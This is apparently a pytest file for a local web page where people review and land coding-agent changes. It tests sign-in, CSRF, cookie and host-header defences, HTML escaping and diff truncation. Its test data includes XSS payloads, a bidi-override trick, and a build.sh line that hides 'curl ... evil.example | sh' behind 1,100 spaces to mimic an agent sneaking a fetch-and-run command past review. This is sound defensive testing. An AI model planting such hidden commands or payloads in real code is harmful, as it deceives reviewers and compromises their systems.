"""The review page over real HTTP (a `proctor serve --no-queue` subprocess, real jobs, real git): who may
use it, what a forged form gets, what an agent's bytes become in the HTML, the live stream, the diff's
splitting and its stated limits. The browser's own view is tests/test_review_browser.py."""

from __future__ import annotations

import json
import os
import stat
import subprocess
import time
from pathlib import Path

import httpx
import pytest
from conftest import sh
from review_site import PROCTOR, Server, run_job, start_job

from proctor.mechanisms.ledger.store import Ledger
from proctor.mechanisms.adapters.testing import Behaviour
from proctor.surfaces.web import patch
from proctor.surfaces.web.access import Access


@pytest.fixture
def server():
    s = Server()
    yield s
    s.stop()


def rows(kind: str, job_id: str | None = None) -> list:
    with Ledger.default() as led:
        return led.rows(kind=kind, job_id=job_id)


def csrf_of(html: str) -> str:
    return html.split('name="csrf" value="', 1)[1].split('"', 1)[0]


def shown_of(html: str) -> str:
    """The digest of the diff the page showed whole, which its land form carries."""
    return html.split('name="shown" value="', 1)[1].split('"', 1)[0]


# -- who may use it ---------------------------------------------------------------------------------------

def test_the_page_needs_this_installs_token_and_the_cookie_is_scoped_to_its_secret_path(server):
    home = Path(os.environ["PROCTOR_HOME"])
    token_file = home / "review-token"
    assert stat.S_IMODE(token_file.stat().st_mode) == 0o600 and token_file.read_text().strip() == server.token
    assert server.token not in "".join(server.err), "the token itself is never printed (a one-time code is)"
    anon = server.client(signed_in=False)
    r = anon.get("/review")
    assert r.status_code == 401 and "review-token" in r.text and "<table" not in r.text
    scope = Access(server.token).scope
    assert scope not in r.text, "the sign-in page must not name the secret path"
    assert anon.get(f"/review/{scope}").status_code == 401 and anon.get(f"/review/{scope}/events").status_code == 401
    assert anon.get("/review/" + "0" * 32).status_code == 404  # another path is no page at all
    r = anon.post("/review/login", data={"token": "x" * 43})
    assert r.status_code == 401 and "not this install" in r.text and "set-cookie" not in r.headers
    # A token in a URL is refused without a look: it would stay in the history.
    r = anon.get(f"/review/login?token={server.token}")
    assert r.status_code == 400 and "set-cookie" not in r.headers
    # The control: the printed one-time code, typed into the page, signs in, once, with a cookie scoped to
    # the secret path and named after the token.
    assert server.login_url == f"{server.base}/review/login" and "code" not in server.login_url
    r = anon.post("/review/login", data={"code": server.code})
    assert r.status_code == 303 and r.headers["location"] == f"/review/{scope}"
    cookie = r.headers["set-cookie"].lower()
    assert "httponly" in cookie and "samesite=strict" in cookie and f"path=/review/{scope};" in cookie
    assert cookie.startswith(Access(server.token).cookie.lower() + "=") and "proctor_review=" not in cookie
    assert server.token not in r.headers["set-cookie"], "the cookie must not carry the login token itself"
    assert anon.get(f"/review/{scope}").status_code == 200
    again = server.client(signed_in=False).post("/review/login", data={"code": server.code})
    assert again.status_code == 401, "a spent code signs nobody in"
    # The token in a POST body does too, and a script may send it as a bearer.
    assert server.client(signed_in=False).post("/review/login", data={"token": server.token}).status_code == 303
    bearer = {"Authorization": f"Bearer {server.token}"}
    r = httpx.get(server.base + "/review", headers=bearer)
    assert r.status_code == 303 and r.headers["location"] == f"/review/{scope}"
    assert httpx.get(server.base + f"/review/{scope}", headers=bearer).status_code == 200
    logins = [(r.payload["ok"], r.payload.get("via")) for r in rows("review.web.login")]
    assert logins == [(True, "code"), (True, "token")], logins  # the failures: one summary row, at the end
    server.stop()
    summary = [r.payload for r in rows("review.web.login") if not r.payload["ok"]]
    assert len(summary) == 1 and summary[0]["failures"] == 2 and summary[0]["client"] == "every client", summary


def test_a_code_in_an_address_is_spent_and_signs_nobody_in(server):
    """issue 41: opened as `chromium URL`, the code sat in /proc/PID/cmdline for every local user, one of whom
    spent it first. A code never signs in from an address: it is spent there, so a copy read from a command
    line is dead too (control: the same code typed into the page signs in, above)."""
    anon = server.client(signed_in=False)
    r = anon.get(f"/review/login?code={server.code}")
    assert r.status_code == 400 and "set-cookie" not in r.headers and "never goes in an address" in r.text
    assert anon.post("/review/login", data={"code": server.code}).status_code == 401


def test_a_planted_cookie_locks_nobody_out_and_a_doubled_one_signs_nobody_in(server):
    """Another user's page on another loopback port set `proctor_review=x; Path=/`: the browser sent it after
    the real cookie, the server kept the last, and the person was locked out for a year. The name is now the
    token's own (she cannot name it); a request naming it twice is refused, whatever the values."""
    c = server.client()
    scope, name = Access(server.token).scope, Access(server.token).cookie
    session = c.cookies.get(name)
    assert session, dict(c.cookies)
    page = f"{server.base}/review/{scope}"
    assert httpx.get(page, headers={"cookie": f"{name}={session}"}).status_code == 200  # the control
    assert httpx.get(page, headers={"cookie": f"{name}={session}; proctor_review=x"}).status_code == 200
    assert httpx.get(page, headers={"cookie": f"proctor_review=x; {name}={session}"}).status_code == 200
    assert httpx.get(page, headers={"cookie": f"{name}={session}; {name}=x"}).status_code == 401
    assert httpx.get(page, headers={"cookie": f"{name}={session}; {name}={session}"}).status_code == 401


def test_failed_sign_ins_are_limited_for_every_client_and_no_forwarded_header_is_believed(server):
    """2,000 wrong tokens from 127.x.y.z addresses or new X-Forwarded-For values never met a per-address
    limit. Now the eleventh failure in a window is a 429 whoever sends it; the right token still signs in."""
    anon = server.client(signed_in=False)
    codes = [anon.post("/review/login", data={"token": f"guess-{i}"},
                       headers={"x-forwarded-for": f"10.0.0.{i}"}).status_code for i in range(12)]
    assert codes == [401] * 10 + [429] * 2, codes
    assert anon.post("/review/login", data={"token": server.token}).status_code == 303


def test_a_token_file_others_can_read_is_refused_with_a_clear_error():
    home = Path(os.environ["PROCTOR_HOME"])
    (home / "review-token").write_text("y" * 43 + "\n")
    (home / "review-token").chmod(0o644)
    p = subprocess.run([str(PROCTOR), "serve", "--no-queue", "--port", "1"], capture_output=True, text=True,
                       timeout=60)
    assert p.returncode == 2 and "readable by others" in p.stderr and "Traceback" not in p.stderr


def test_every_page_carries_a_strict_csp_and_no_caching(server, repo, fake):
    fake("claude", Behaviour(writes={"a.txt": "a\n"}))
    job = run_job(repo, "T-1")["jobId"]
    c = server.client()
    for path in (server.prefix, f"{server.prefix}/jobs/{job}", "/review/static/review.css"):
        r = c.get(path)
        assert r.status_code == 200, path
        csp = r.headers["content-security-policy"]
        assert "script-src 'self'" in csp and "default-src 'none'" in csp and "frame-ancestors 'none'" in csp
        assert r.headers["cache-control"] == "no-store" and r.headers["x-frame-options"] == "DENY"
    assert "<script" not in c.get(f"{server.prefix}/jobs/{job}").text.replace('<script src="/review/static/review.js" defer>'
                                                                      '</script>', "")
    assert c.get("/review/static/../app.py").status_code == 404
    assert c.get("/review/static/nothing.js").status_code == 404


# -- forged forms ---------------------------------------------------------------------------------------

def test_a_post_without_this_pages_csrf_token_or_from_another_origin_lands_nothing(server, repo, fake):
    fake("claude", Behaviour(writes={"fix.txt": "fixed\n"}))
    res = run_job(repo, "T-1", "test -f fix.txt")
    assert res["status"] == "completed", res
    job, before = res["jobId"], sh("git", "rev-parse", "master", cwd=repo).strip()
    c = server.client()
    page = c.get(f"{server.prefix}/jobs/{job}").text
    token, shown = csrf_of(page), shown_of(page)
    form = {"content-type": "application/x-www-form-urlencoded"}
    assert c.post(f"{server.prefix}/jobs/{job}/land", content="mode=auto", headers=form).status_code == 403
    assert c.post(f"{server.prefix}/jobs/{job}/land", content="csrf=" + "0" * 64, headers=form).status_code == 403
    assert c.post(f"{server.prefix}/jobs/{job}/land", json={"csrf": token}).status_code == 403  # not a form
    r = c.post(f"{server.prefix}/jobs/{job}/land", content=f"csrf={token}", headers={**form, "origin": "http://evil.example"})
    assert r.status_code == 403 and r.json()["code"] == "FOREIGN_ORIGIN"
    anon = server.client(signed_in=False)
    assert anon.post(f"{server.prefix}/jobs/{job}/land", content=f"csrf={token}", headers=form).status_code == 401
    assert sh("git", "rev-parse", "master", cwd=repo).strip() == before and not rows("review.land", job)
    # The control: the page's own form, same origin, lands it.
    r = c.post(f"{server.prefix}/jobs/{job}/land", content=f"csrf={token}&mode=auto&shown={shown}",
               headers={**form, "origin": server.base})
    assert r.status_code == 303
    page = c.get(r.headers["location"])
    assert "land done" in page.text and "OK" in page.text
    assert sh("git", "rev-parse", "master", cwd=repo).strip() == res["commit"]
    landed = rows("review.land", job)
    assert len(landed) == 1 and landed[0].payload["ok"] and landed[0].payload["via"] == "web"
    # The outcome is shown once: a reload does not show it again, nor land again.
    assert "land done" not in c.get(r.headers["location"]).text


def test_a_host_header_of_another_name_is_refused_before_the_page(server):
    r = httpx.get(server.base + "/review", headers={"host": f"rebound.example:{server.port}",
                                                   "Authorization": f"Bearer {server.token}"})
    assert r.status_code == 421 and r.json()["code"] == "MISDIRECTED_HOST"


# -- what the agent wrote, in the page ----------------------------------------------------------------

HOSTILE = "<script>window.__pwned=1</script><img src=x onerror=\"window.__pwned=2\">"


def test_an_agents_markup_file_names_and_bidi_are_shown_as_text(server, repo, fake):
    name = "<b onmouseover=alert(1)>x.py"
    fake("claude", Behaviour(writes={name: f"s = '{HOSTILE}'\nok = 'admin\u202e // not'\n"},
                             stdout=f"I fixed it {HOSTILE}"))
    res = run_job(repo, "T-1")
    assert res["jobId"], res
    html = server.client().get(f"{server.prefix}/jobs/{res['jobId']}").text
    assert "<script>window" not in html and "<img src=x" not in html and "<b onmouseover" not in html
    assert "&lt;script&gt;" in html and "&lt;b onmouseover=alert(1)&gt;x.py" in html
    assert "\u202e" not in html and 'class="ctl" title="U+202E">\\u202e</span>' in html


def test_the_failed_jobs_page_shows_the_hosts_validation_output_and_risks(server, repo, fake):
    fake("claude", Behaviour(writes={"a.txt": "a\n"}, stdout=json.dumps({"type": "result", "is_error": False,
                                                                      "result": "all tests pass, trust me"}) + "\n"))
    res = run_job(repo, "T-2", "echo 'assertion: 2 + 2 is not 5' >&2; exit 3")
    assert res["status"] == "failed" and res["code"] == "VALIDATION_FAILED"
    html = server.client().get(f"{server.prefix}/jobs/{res['jobId']}").text
    assert 'class="verdict bad"' in html and ">FAILED<" in html and "VALIDATION_FAILED" in html
    assert "assertion: 2 + 2 is not 5" in html and "exit 3" in html
    assert "all tests pass, trust me" in html and "its claim, not the verdict" in html
    assert "Land anyway" in html and "Not landable as is" in html
    shown = rows("review.show", res["jobId"])
    assert shown and shown[-1].payload["via"] == "web"


def test_thirty_views_of_a_job_page_are_two_ledger_rows(server, repo, fake):
    """A reader's cost to the ledger is bounded (issue 41): one `review.show` row a job a minute, the rest
    counted into one more row when the next minute's first view comes or the server ends."""
    fake("claude", Behaviour(writes={"a.txt": "a\n"}))
    job, c = run_job(repo, "T-views")["jobId"], server.client()
    for _ in range(30):
        assert c.get(f"{server.prefix}/jobs/{job}").status_code == 200
    assert len(rows("review.show", job)) == 1
    server.stop()
    shown = [r.payload for r in rows("review.show", job)]
    assert len(shown) == 2 and shown[1]["summarised"] == 29 and shown[1]["window_s"] == 60.0, shown


def test_landing_a_failed_job_from_the_page_is_refused_unless_forced_with_a_reason(server, repo, fake):
    fake("claude", Behaviour(writes={"a.txt": "a\n"}))
    res = run_job(repo, "T-3", "exit 1")
    job, c = res["jobId"], server.client()
    page = c.get(f"{server.prefix}/jobs/{job}").text
    token, shown = csrf_of(page), shown_of(page)
    form = {"content-type": "application/x-www-form-urlencoded", "origin": server.base}

    def land(body: str) -> str:
        r = c.post(f"{server.prefix}/jobs/{job}/land", content=f"csrf={token}&shown={shown}&{body}", headers=form)
        assert r.status_code == 303
        return c.get(r.headers["location"]).text

    assert "NOT_LANDABLE" in land("mode=auto")
    assert "FORCE_NEEDS_REASON" in land("mode=auto&force=on&reason=")
    assert "land done" in land("mode=auto&force=on&reason=reviewed+by+hand")
    landed = [r.payload for r in rows("review.land", job)]
    assert [p["code"] for p in landed] == ["NOT_LANDABLE", "FORCE_NEEDS_REASON", "OK"]
    assert landed[-1]["forced"] and landed[-1]["force_reason"] == "reviewed by hand"


def test_discard_from_the_page_removes_the_worktree_and_branch(server, repo, fake):
    fake("claude", Behaviour(writes={"a.txt": "a\n"}))
    res = run_job(repo, "T-4")
    c = server.client()
    token = csrf_of(c.get(f"{server.prefix}/jobs/{res['jobId']}").text)
    r = c.post(f"{server.prefix}/jobs/{res['jobId']}/discard", content=f"csrf={token}",
               headers={"content-type": "application/x-www-form-urlencoded"})
    assert "discard done" in c.get(r.headers["location"]).text
    assert not Path(res["worktreePath"]).exists()
    assert "wt/" not in sh("git", "branch", "--list", cwd=repo)
    assert rows("review.discard", res["jobId"])[-1].payload["via"] == "web"
    assert c.get(server.prefix + "/jobs/nope").status_code == 404


def test_the_list_filters_by_repo_and_status(server, tmp_path, fake):
    from conftest import make_repo

    fake("claude", Behaviour(writes={"a.txt": "a\n"}))
    one, two = make_repo(tmp_path / "one"), make_repo(tmp_path / "two")
    good = run_job(one, "T-good")["jobId"]
    bad = run_job(two, "T-bad", "exit 1")["jobId"]
    c = server.client()
    assert good in c.get(server.prefix).text and bad in c.get(server.prefix).text
    only_two = c.get(server.prefix, params={"repo": str(two)}).text
    assert bad in only_two and good not in only_two
    failed = c.get(server.prefix, params={"status": "failed"}).text
    assert bad in failed and good not in failed
    assert "No jobs match" in c.get(server.prefix, params={"status": "landed"}).text


# -- live --------------------------------------------------------------------------------------------

def _events(server: Server, query: str, until, timeout: float = 60.0) -> list[dict]:
    """Rows from /review/events until `until(row)` holds for one of them."""
    seen: list[dict] = []
    headers = {"Authorization": f"Bearer {server.token}"}
    deadline = time.monotonic() + timeout
    with httpx.stream("GET", server.url("/events") + query, headers=headers, timeout=timeout) as r:
        assert r.status_code == 200 and r.headers["content-type"].startswith("text/event-stream")
        for line in r.iter_lines():
            if line.startswith("data: "):
                got = json.loads(line[6:])
                seen.extend(got)
                if any(until(row) for row in got):
                    return seen
            assert time.monotonic() < deadline, json.dumps(seen, indent=1)[-3000:]
    raise AssertionError(f"the stream ended first: {seen}")


def test_the_stream_sends_a_running_jobs_phase_and_last_line_then_its_end(server, repo, fake):
    fake("claude", Behaviour(writes={"a.txt": "a\n"}, stdout="step 1 of 3: reading the code\n", sleep=4))
    proc = start_job(repo, "T-live")
    try:
        seen = _events(server, "", lambda r: r["status"] == "running"
                       and "reading the code" in (r.get("progress") or {}).get("lastLine", ""))
        live = [r for r in seen if r["status"] == "running"][-1]
        assert live["progress"]["phase"].startswith("running claude") and live["reviewBadge"] == "live"
        job = live["jobId"]
        ended = _events(server, f"?job={job}", lambda r: r["status"] == "completed")
        assert all(r["jobId"] == job for r in ended) and "progress" not in ended[-1]
    finally:
        out, err = proc.communicate(timeout=120)
    assert json.loads(out)["status"] == "completed", err.decode()[-2000:]


# -- the diff, split and highlighted ------------------------------------------------------------------

def _patch(*files: tuple[str, list[str]]) -> bytes:
    out = []
    for name, lines in files:
        out += [f"diff --git a/{name} b/{name}", "index 1..2 100644", f"--- a/{name}", f"+++ b/{name}",
                f"@@ -1,{len(lines)} +1,{len(lines)} @@", *lines]
    return ("\n".join(out) + "\n").encode()


def test_the_patch_is_split_by_file_numbered_and_highlighted_by_name():
    page = patch.split(_patch(("a b.py", [" x = 1", "-y = 2", "+y = 'three'"]), ("notes.txt", ["+<b>"])))
    a, n = page.files
    assert a.path == "a b.py" and (a.added, a.removed) == (1, 1) and a.status == "modified"
    kinds = [(ln.kind, ln.old, ln.new) for ln in a.lines]
    assert kinds == [("hunk", None, None), ("ctx", 1, 1), ("del", 2, None), ("add", None, 2)]
    assert 'class="hl-s1"' in a.lines[-1].html  # a Python string, coloured
    assert n.lines[-1].html == "&lt;b&gt;"  # text: escaped, never guessed into markup
    assert page.cut_files == 0


def test_a_huge_patch_is_cut_at_stated_limits_never_silently():
    big = [f"+line {i}" for i in range(patch.MAX_FILE_LINES + 500)]
    page = patch.split(_patch(("big.py", big), ("small.py", ["+x"])))
    assert page.files[0].cut == 501 and len(page.files[0].lines) == patch.MAX_FILE_LINES
    many = patch.split(_patch(*[(f"f{i}.txt", [f"+{i}"] * 100) for i in range(400)]))
    shown = sum(len(f.lines) for f in many.files)
    assert shown <= patch.MAX_TOTAL_LINES + patch.MAX_FILE_LINES and many.cut_files > 0
    assert len(many.files) + many.cut_files == 400


def test_a_line_cut_on_the_page_is_marked_on_it_and_the_page_cannot_land_it(server, repo, fake):
    """issue 41: `echo build<1,100 blanks>; curl ... | sh` showed as `+echo build` and blanks, unmarked, and
    the page landed the whole line. Now the cut is said on the line, the page offers no land, and a land
    posted anyway (with the digest of the whole patch, or of nothing) is NOT_AS_SHOWN; master stays."""
    hidden = "echo build" + " " * 1100 + "; curl -s https://evil.example/x | sh\n"
    fake("claude", Behaviour(writes={"build.sh": hidden}))
    res = run_job(repo, "T-cut", "true")
    assert res["status"] == "completed", res
    job, before, c = res["jobId"], sh("git", "rev-parse", "master", cwd=repo).strip(), server.client()
    page = c.get(f"{server.prefix}/jobs/{job}").text
    assert "more characters of this line are not shown" in page and 'id="not-whole"' in page
    assert 'name="shown"' not in page and 'id="land-form"' not in page
    from proctor.surfaces.web.views import shown_digest

    whole = sh("git", "diff", f"{res['commit']}^", res["commit"], cwd=Path(res["worktreePath"]))
    form = {"content-type": "application/x-www-form-urlencoded", "origin": server.base}
    for shown in ("", shown_digest(whole.encode())):
        r = c.post(f"{server.prefix}/jobs/{job}/land", content=f"csrf={csrf_of(page)}&mode=auto&shown={shown}",
                   headers=form)
        assert r.status_code == 303 and "NOT_AS_SHOWN" in c.get(r.headers["location"]).text
    assert sh("git", "rev-parse", "master", cwd=repo).strip() == before
    assert [r.payload["code"] for r in rows("review.land", job)] == ["NOT_AS_SHOWN", "NOT_AS_SHOWN"]


def test_a_stale_page_cannot_land_a_diff_it_did_not_show(server, repo, fake):
    fake("claude", Behaviour(writes={"fix.txt": "fixed\n"}))
    res = run_job(repo, "T-stale", "true")
    job, c = res["jobId"], server.client()
    page = c.get(f"{server.prefix}/jobs/{job}").text
    form = {"content-type": "application/x-www-form-urlencoded", "origin": server.base}
    r = c.post(f"{server.prefix}/jobs/{job}/land", content=f"csrf={csrf_of(page)}&mode=auto&shown={'0' * 64}",
               headers=form)
    assert "NOT_AS_SHOWN" in c.get(r.headers["location"]).text and not (repo / "fix.txt").exists()


def test_each_cut_of_a_line_is_said_on_it():
    long_line, huge = "+" + "x" * 1500, "+" + "y" * 9000
    page = patch.split(_patch(("a.py", ["+short", long_line, huge])))
    cuts = [ln.cut for ln in page.files[0].lines if ln.kind == "add"]
    assert cuts == ["", "501 more characters of this line are not shown",
                    "this line is 9,001 bytes; its first 1,000 characters are shown"], cuts
    assert not page.whole and patch.split(_patch(("a.py", ["+short"]))).whole


def test_a_land_refused_on_re_validation_shows_the_merged_trees_output(server, repo, fake):
    fake("claude", Behaviour(writes={"a.txt": "a\n"}))
    res = run_job(repo, "T-5", "if [ -f late.txt ]; then echo 'late.txt breaks the build' >&2; exit 4; fi")
    assert res["status"] == "completed", res
    (repo / "late.txt").write_text("moved\n")
    sh("git", "add", "late.txt", cwd=repo)
    sh("git", "commit", "-qm", "the target moves", cwd=repo)
    moved = sh("git", "rev-parse", "master", cwd=repo).strip()
    c = server.client()
    page = c.get(f"{server.prefix}/jobs/{res['jobId']}").text
    r = c.post(f"{server.prefix}/jobs/{res['jobId']}/land", content=f"csrf={csrf_of(page)}&mode=auto&shown={shown_of(page)}",
               headers={"content-type": "application/x-www-form-urlencoded"})
    html = c.get(r.headers["location"]).text
    assert "land refused" in html and "REVALIDATION_FAILED" in html
    assert "late.txt breaks the build" in html and "exit 4" in html
    assert sh("git", "rev-parse", "master", cwd=repo).strip() == moved


def test_the_list_says_how_many_older_jobs_it_does_not_show(repo, fake, monkeypatch):
    from fastapi import FastAPI
    from fastapi.testclient import TestClient

    from proctor.surfaces.web import app as web_app
    from proctor.surfaces.web.access import Access

    fake("claude", Behaviour(writes={"a.txt": "a\n"}))
    ids = [run_job(repo, f"T-{i}")["jobId"] for i in range(3)]
    monkeypatch.setattr(web_app, "LIST_MAX", 2)
    app = FastAPI()
    web_app.mount(app, web_app.Site(Access("t" * 43)))
    with TestClient(app) as c:
        html = c.get("/review", headers={"Authorization": "Bearer " + "t" * 43}).text  # redirected to the page
    assert ids[2] in html and ids[1] in html and ids[0] not in html  # the newest two
    assert "1 older jobs are not listed" in html
